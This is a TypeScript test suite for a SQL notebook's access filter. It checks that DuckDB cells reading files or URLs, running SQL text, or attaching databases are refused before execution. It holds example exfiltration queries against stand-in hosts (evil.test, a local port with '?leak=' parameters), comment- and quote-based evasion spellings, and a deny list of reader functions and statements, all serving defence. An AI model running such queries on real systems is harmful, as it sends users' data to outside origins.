// Review 6, finding 5: a cell ran read_csv('http://…') and the page contacted another origin. A
// recipe link carries cells someone else wrote, so every way SQL reads files, addresses or SQL
// text is refused before the engine sees it; these tests run each on the real engine's list.
import { beforeAll, describe, expect, it } from 'vitest';
import { NodeDatabase } from '../../helpers/node-database';
import { MARCH, loadFixture } from '../analyses/fixture';
import { ALLOWED_TABLE_FUNCTIONS, REFUSED_TABLE_FUNCTIONS, cellAccessProblem } from '../../../src/notebook/cell-access';
import { NotebookState } from '../../../src/state/notebook.svelte';
import type { Database } from '../../../src/db/database';

let db: NodeDatabase;
beforeAll(async () => {
  db = await NodeDatabase.open();
  await loadFixture(db);
});

const refused = (sql: string) => cellAccessProblem(sql);

describe('notebook SQL never reads files, addresses or SQL text (review 6 #5)', () => {
  it('refuses read_csv of another origin, in every spelling', () => {
    expect(refused(`SELECT * FROM read_csv('http://127.0.0.1:37711/b/x.csv?leak=recipe-was-run')`)).toMatchObject({ kind: 'function', name: 'read_csv', position: 14 });
    expect(refused(`select * from READ_CSV('https://evil.test/x.csv')`)).toMatchObject({ kind: 'function', name: 'READ_CSV' });
    expect(refused(`SELECT * FROM read_csv /* hidden */ ('https://evil.test/x.csv')`)).toMatchObject({ kind: 'function', name: 'read_csv' });
    expect(refused(`SELECT * FROM read_csv -- hidden\n  ('https://evil.test/x.csv')`)).toMatchObject({ kind: 'function', name: 'read_csv' });
    expect(refused(`SELECT * FROM "read_csv"('https://evil.test/x.csv')`)).toMatchObject({ kind: 'function', name: 'read_csv' });
    expect(refused(`SELECT * FROM main.read_csv_auto('x.csv')`)).toMatchObject({ kind: 'function', name: 'read_csv_auto' });
    expect(refused(`SELECT * FROM orders WHERE customer_id IN (SELECT a FROM read_text('x'))`)).toMatchObject({ kind: 'function', name: 'read_text' });
    expect(refused(`SELECT * FROM orders, LATERAL read_blob('x')`)).toMatchObject({ kind: 'function', name: 'read_blob' });
  });

  it('refuses SQL text, globbing, sniffing and the extensions’ readers', () => {
    for (const name of ['query', 'query_table', 'glob', 'sniff_csv', 'read_parquet', 'parquet_scan', 'parquet_metadata', 'read_json_auto', 'iceberg_scan', 'delta_scan', 'read_xlsx', 'sqlite_scan']) {
      expect(refused(`SELECT * FROM ${name}('x')`), name).toMatchObject({ kind: 'function' });
    }
    expect(refused(`FROM query('SELECT * FROM read_csv(''http://evil.test'')')`)).toMatchObject({ kind: 'function', name: 'query' });
    // A table macro in table position, though `histogram` is also an aggregate (allowed in a select list).
    expect(refused(`FROM histogram('x.csv', a)`)).toMatchObject({ kind: 'function', name: 'histogram' });
    expect(refused(`SELECT histogram(net) FROM orders`)).toBeNull();
  });

  it('refuses a string, a quoted path or a file-like dotted name used as a table', () => {
    expect(refused(`SELECT * FROM 'x.csv'`)).toMatchObject({ kind: 'path', text: `'x.csv'` });
    expect(refused(`FROM 'https://evil.test/x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM "https://evil.test/x.csv"`)).toMatchObject({ kind: 'path', text: '"https://evil.test/x.csv"' });
    expect(refused(`SELECT * FROM E'x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM $$x.csv$$`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM x.csv`)).toMatchObject({ kind: 'path', text: 'x.csv' });
    expect(refused(`SELECT * FROM main.x.csv`)).toMatchObject({ kind: 'path', text: 'main.x.csv' });
    expect(refused(`SELECT * FROM "main"."x.csv"`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM orders o JOIN 'x.csv' y ON true`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM orders o JOIN customers c ON o.customer_id = c.customer_id, 'x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM orders, /* c */ 'x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM (FROM 'x.csv')`)).toMatchObject({ kind: 'path' });
    expect(refused(`WITH a AS (SELECT * FROM 'x.csv') SELECT * FROM a`)).toMatchObject({ kind: 'path' });
    expect(refused(`SELECT * FROM orders WHERE EXISTS (FROM 'x.csv')`)).toMatchObject({ kind: 'path' });
    expect(refused(`DESCRIBE 'x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`SUMMARIZE 'https://evil.test/x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`SHOW 'x.csv'`)).toMatchObject({ kind: 'path' });
    expect(refused(`PIVOT 'x.csv' ON a USING count(*)`)).toMatchObject({ kind: 'path' });
  });

  it('refuses statements other than queries', () => {
    for (const sql of [`ATTACH 'https://evil.test/x.db'`, `COPY orders TO 'x.csv'`, `EXPORT DATABASE 'x'`, `IMPORT DATABASE 'x'`, `INSTALL httpfs`, `LOAD httpfs`, `SET enable_external_access = true`, `PRAGMA version`, `CALL pragma_version()`, `/* c */ attach 'x'`]) {
      expect(refused(sql), sql).toMatchObject({ kind: 'statement' });
    }
    expect(refused(`SELECT 1; ATTACH 'x'`)).toMatchObject({ kind: 'statement', keyword: 'ATTACH', position: 10 });
  });

  it('lets ordinary queries through, strings and FROM inside expressions included', () => {
    for (const sql of [
      `SELECT * FROM orders WHERE customer_id = 'C01' AND status IN ('paid', 'x.csv')`,
      `SELECT extract(year FROM ordered_at) AS y, substring('abc' FROM 2 FOR 1), trim(BOTH 'x' FROM 'xax') FROM orders`,
      `SELECT * FROM range(3) t(x), generate_series(1, 2) g(y), unnest([1, 2]) u(z)`,
      `SELECT * FROM temp.main.top_customers JOIN main.orders USING (customer_id)`,
      `FROM orders SELECT 'a', 'b.csv' ORDER BY 1`,
      `SELECT * FROM (VALUES ('x.csv'), ('y')) v(name)`,
      `SELECT table_name FROM duckdb_tables() WHERE table_name LIKE '%.csv'`,
      `SELECT * FROM orders PIVOT (sum(net) FOR kind IN ('sale', 'refund'))`,
      `WITH t AS (SELECT 1 AS a) SELECT 'read_csv(x)' AS s, "read_csv" FROM t, LATERAL (SELECT a + 1)`,
      `DESCRIBE orders`,
      `SUMMARIZE SELECT * FROM orders`,
    ]) {
      expect(refused(sql), sql).toBeNull();
    }
  });

  it('knows every table function of the engine (DuckDB 1.4.3): allowed or refused', async () => {
    const names = (await db.rows<{ name: string }>(`SELECT DISTINCT function_name AS name FROM duckdb_functions() WHERE function_type IN ('table', 'table_macro') ORDER BY 1`)).map((r) => r.name);
    expect(names).toContain('read_csv');
    const unknown = names.filter((n) => !ALLOWED_TABLE_FUNCTIONS.has(n) && !REFUSED_TABLE_FUNCTIONS.has(n) && !['histogram'].includes(n));
    expect(unknown).toEqual([]);
    for (const name of names.filter((n) => !ALLOWED_TABLE_FUNCTIONS.has(n))) expect(refused(`SELECT * FROM ${name}('x')`), name).not.toBeNull();
  });

  it('the notebook refuses the cell before any SQL reaches the engine, in words', async () => {
    const seen: string[] = [];
    const spy: Database = new Proxy(db, {
      get(target, key) {
        if (key === 'query') return (sql: string, options?: unknown) => (seen.push(sql), target.query(sql, options as never));
        return Reflect.get(target, key) as unknown;
      },
    });
    const notebook = new NotebookState(spy, null);
    notebook.open({ version: 1, title: 'theirs', cells: [{ id: 'a', kind: 'sql', name: 'exfil', sql: `SELECT * FROM read_csv('http://127.0.0.1:37711/b/x.csv?leak=1')` }] });
    seen.length = 0;
    expect(await notebook.runAll()).toBe(false);
    expect(seen.filter((s) => /read_csv|37711/.test(s))).toEqual([]);
    expect(notebook.runOf('a')).toMatchObject({ status: 'error', problem: { kind: 'access', access: { kind: 'function', name: 'read_csv' } } });
  });
});

describe('what the app itself puts in cells passes the access check', () => {
  it('every dashboard panel’s query (Open as SQL) and the starting notebook', async () => {
    const { DASHBOARD_PANELS, panelSql } = await import('../../../src/notebook/from-dashboard');
    const { defaultNotebook } = await import('../../../src/notebook/default-notebook');
    const source = {
      filter: { range: MARCH, facets: { city: ["O'Fallon"] } },
      grain: 'auto' as const, churnWindowDays: 90, acquisitionGrain: 'month' as const,
    };
    for (const panel of DASHBOARD_PANELS) expect(cellAccessProblem(panelSql(panel, source)), panel).toBeNull();
    for (const cell of defaultNotebook({ title: 't', note: 'n' }).cells) if (cell.kind === 'sql') expect(cellAccessProblem(cell.sql)).toBeNull();
  });
});
